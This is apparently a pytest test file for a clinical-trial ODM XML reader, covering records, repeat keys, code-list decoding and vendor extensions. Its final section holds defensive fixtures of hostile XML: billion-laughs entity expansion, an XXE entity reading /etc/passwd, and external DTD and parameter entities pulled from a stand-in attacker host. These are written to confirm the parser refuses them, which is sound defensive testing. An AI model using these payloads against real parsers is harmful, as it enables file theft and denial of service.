"""The ODM reader: records, repeat keys, metadata, vendor extensions, and clean refusals of
unsafe or broken XML (each attack gives a SourceError naming the file, never a traceback,
a network access or a read of a local file)."""
from pathlib import Path

import pytest

from cup2std.errors import SourceError
from cup2std.readers import read_source
from cup2std.spec.model import FormSpec, SourceSpec

NS = 'xmlns="http://www.cdisc.org/ns/odm/v1.3" xmlns:v="http://vendor.example/ext"'
META = """
 <Study OID="S"><MetaDataVersion OID="M">
  <FormDef OID="F.AE" Name="AE"><ItemGroupRef ItemGroupOID="IG.AE" Mandatory="Yes"/></FormDef>
  <FormDef OID="F.DM" Name="DM"><ItemGroupRef ItemGroupOID="IG.DM" Mandatory="Yes"/>
   <ItemGroupRef ItemGroupOID="IG.VS" Mandatory="Yes"/></FormDef>
  <ItemGroupDef OID="IG.DM" Name="DM" Repeating="No"><ItemRef ItemOID="IT.SEX"/>
   <ItemRef ItemOID="IT.AGE"/></ItemGroupDef>
  <ItemGroupDef OID="IG.VS" Name="VS" Repeating="No"><ItemRef ItemOID="IT.WT"/></ItemGroupDef>
  <ItemGroupDef OID="IG.AE" Name="AE" Repeating="Yes"><ItemRef ItemOID="IT.TERM"/>
   <ItemRef ItemOID="IT.NEVER"/></ItemGroupDef>
  <ItemDef OID="IT.SEX" Name="SEX" DataType="text" v:x="1"><CodeListRef CodeListOID="CL.SEX"/></ItemDef>
  <ItemDef OID="IT.AGE" Name="AGE" DataType="integer"/>
  <ItemDef OID="IT.WT" Name="WEIGHT" DataType="float"/>
  <ItemDef OID="IT.TERM" Name="AETERM" DataType="text"/>
  <ItemDef OID="IT.NEVER" Name="NEVER" DataType="text"/>
  <CodeList OID="CL.SEX" Name="Sex" DataType="text">
   <CodeListItem CodedValue="F"><Decode><TranslatedText xml:lang="de">weiblich</TranslatedText>
    <TranslatedText xml:lang="en">Female</TranslatedText></Decode></CodeListItem>
   <CodeListItem CodedValue="M"><Decode><TranslatedText xml:lang="en">Male</TranslatedText></Decode></CodeListItem>
  </CodeList>
 </MetaDataVersion></Study>"""
CLINICAL = """
 <ClinicalData StudyOID="S" MetaDataVersionOID="M">
  <SubjectData SubjectKey="001" v:status="locked">
   <SiteRef LocationOID="SITE1"/>
   <v:Audit><v:Entry who="x"/></v:Audit>
   <StudyEventData StudyEventOID="SE.BASE">
    <FormData FormOID="F.DM">
     <ItemGroupData ItemGroupOID="IG.DM"><ItemData ItemOID="IT.SEX" Value="F" v:src="y"/>
      <ItemDataInteger ItemOID="IT.AGE">70</ItemDataInteger></ItemGroupData>
     <ItemGroupData ItemGroupOID="IG.VS"><ItemData ItemOID="IT.WT" Value="68.5"/></ItemGroupData>
    </FormData>
   </StudyEventData>
   <StudyEventData StudyEventOID="SE.LOG">
    <FormData FormOID="F.AE">
     <ItemGroupData ItemGroupOID="IG.AE" ItemGroupRepeatKey="1"><ItemData ItemOID="IT.TERM" Value="Fieber"/></ItemGroupData>
     <v:Note>ignored</v:Note>
     <ItemGroupData ItemGroupOID="IG.AE" ItemGroupRepeatKey="2"><ItemData ItemOID="IT.TERM" IsNull="Yes"/></ItemGroupData>
    </FormData>
   </StudyEventData>
  </SubjectData>
  <SubjectData SubjectKey="002">
   <StudyEventData StudyEventOID="SE.BASE"><FormData FormOID="F.DM">
     <ItemGroupData ItemGroupOID="IG.DM"><ItemData ItemOID="IT.SEX" Value="X"/>
      <ItemData ItemOID="IT.AGE" Value="seventy"/></ItemGroupData>
   </FormData></StudyEventData>
  </SubjectData>
 </ClinicalData>"""
GOOD = f'<?xml version="1.0" encoding="UTF-8"?>\n<ODM {NS} FileType="Snapshot">{META}{CLINICAL}</ODM>\n'


def source(**forms) -> SourceSpec:
    src = SourceSpec(subject="SubjectKey")
    for name, kw in forms.items():
        src.forms[name] = FormSpec(name=name, file="", sheet=name, **kw)
    src.forms[next(iter(forms))].subjects = True
    return src


def write(tmp_path: Path, text: str, name="export.xml") -> Path:
    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    return p


def test_item_groups_become_rows_with_context_and_provenance(tmp_path):
    data = read_source(write(tmp_path, GOOD),
                       source(dm={"item_group": "IG.DM"}, ae={"item_group": "IG.AE"}))
    dm, ae = data.forms["dm"], data.forms["ae"]
    assert dm[["SubjectKey", "SiteRef", "IT.SEX", "IT.AGE"]].values.tolist() == [
        ["001", "SITE1", "F", "70"], ["002", "", "X", "seventy"]]
    assert ae[["SubjectKey", "ItemGroupRepeatKey", "IT.TERM", "_SRC_ROW"]].values.tolist() == [
        ["001", "1", "Fieber", 1], ["001", "2", "", 2]]
    assert "IT.NEVER" in ae.columns and set(ae["IT.NEVER"]) == {""}  # declared, not collected
    assert data.files["ae"].endswith("export.xml[IG.AE]")
    assert ae["_SRC_LINE"].tolist()[0] > 1


def test_vendor_extensions_are_ignored(tmp_path):
    data = read_source(write(tmp_path, GOOD), source(ae={"item_group": "IG.AE"}))
    assert not [c for c in data.forms["ae"].columns if "v:" in c or "vendor" in c]
    assert len(data.forms["ae"]) == 2


def test_values_are_checked_against_item_defs(tmp_path):
    data = read_source(write(tmp_path, GOOD), source(dm={"item_group": "IG.DM"}))
    got = sorted((f.rule, f.value, f.row, f.subject) for f in data.findings)
    assert got == [("ODM001", "seventy", 2, "002"), ("ODM002", "X", 2, "002")]


def test_form_level_records_and_item_names(tmp_path):
    src = source(dm={"odm_form": "F.DM"})
    src.odm_columns = "name"
    data = read_source(write(tmp_path, GOOD), src)
    assert data.forms["dm"][["SEX", "AGE", "WEIGHT"]].values.tolist()[0] == ["F", "70", "68.5"]


def test_decode_uses_english_translated_text(tmp_path):
    src = source(dm={"item_group": "IG.DM"})
    src.odm_decode = True
    data = read_source(write(tmp_path, GOOD), src)
    assert data.forms["dm"]["IT.SEX"].tolist() == ["Female", "X"]


def test_repeating_group_read_as_a_form_is_refused(tmp_path):
    with pytest.raises(SourceError, match="instead of 'odm_form:'"):
        read_source(write(tmp_path, GOOD), source(ae={"odm_form": "F.AE"}))


def test_misspelt_item_group_names_the_nearest(tmp_path):
    with pytest.raises(SourceError, match="Did you mean 'IG.AE'"):
        read_source(write(tmp_path, GOOD), source(dm={"item_group": "IG.DM"},
                                                 ae={"item_group": "IG.AEX"}))


def test_declared_group_without_records_is_an_empty_frame(tmp_path):
    text = GOOD.replace('ItemGroupOID="IG.VS"><ItemData ItemOID="IT.WT" Value="68.5"/>',
                        'ItemGroupOID="IG.OTHER">')
    data = read_source(write(tmp_path, text), source(dm={"item_group": "IG.DM"},
                                                    vs={"item_group": "IG.VS"}))
    assert len(data.forms["vs"]) == 0 and "IT.WT" in data.forms["vs"].columns


@pytest.mark.parametrize("text, fragment", [
    ('<?xml version="1.0"?><Other/>', "not <ODM>"),
    (f'<ODM {NS} FileType="Transactional"/>', "transactional"),
])
def test_not_a_snapshot_odm_file(tmp_path, text, fragment):
    with pytest.raises(SourceError, match=fragment):
        read_source(write(tmp_path, text), source(dm={"item_group": "IG.DM"}))


# -- XML attacks and broken files -------------------------------------------------------------
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE ODM [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3"><ClinicalData StudyOID="&lol9;"/></ODM>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE ODM [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3"><ClinicalData StudyOID="S">
 <SubjectData SubjectKey="&xxe;"><StudyEventData StudyEventOID="E"><FormData FormOID="F">
 <ItemGroupData ItemGroupOID="IG.DM"><ItemData ItemOID="IT.X" Value="&xxe;"/></ItemGroupData>
 </FormData></StudyEventData></SubjectData></ClinicalData></ODM>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ODM SYSTEM "http://attacker.invalid/odm.dtd">
<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE ODM [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>
<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3"/>
"""
DEEP = ('<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3">' + "<x>" * 10000 + "</x>" * 10000
        + "</ODM>")
TRUNCATED = GOOD[: GOOD.index("<ItemGroupData ItemGroupOID=\"IG.AE\"") + 40]


@pytest.mark.parametrize("text, fragment", [
    (BILLION_LAUGHS, "DOCTYPE"),
    (EXTERNAL_ENTITY, "DOCTYPE"),
    (EXTERNAL_DTD, "DOCTYPE"),
    (PARAMETER_ENTITY, "DOCTYPE"),
    (DEEP, "not well-formed"),
    (TRUNCATED, "truncated"),
], ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "deep",
        "truncated"])
def test_unsafe_or_broken_xml_is_refused_cleanly(tmp_path, text, fragment):
    path = write(tmp_path, text)
    with pytest.raises(SourceError) as exc:
        read_source(path, source(dm={"item_group": "IG.DM"}))
    assert fragment in str(exc.value) and str(path) in str(exc.value)
    assert "root:" not in str(exc.value)  # nothing of /etc/passwd leaks into the message


def test_cli_refuses_an_attack_with_exit_code_2(tmp_path):
    import subprocess
    import sys
    root = Path(__file__).resolve().parents[2]
    run = subprocess.run([sys.executable, "-m", "cup2std", "convert",
                          str(write(tmp_path, EXTERNAL_ENTITY)), "--mapping",
                          str(root / "mappings" / "odm_isa.yaml"), "--out", str(tmp_path / "o")],
                         capture_output=True, text=True, cwd=root)
    assert run.returncode == 2 and "DOCTYPE" in run.stderr and "Traceback" not in run.stderr
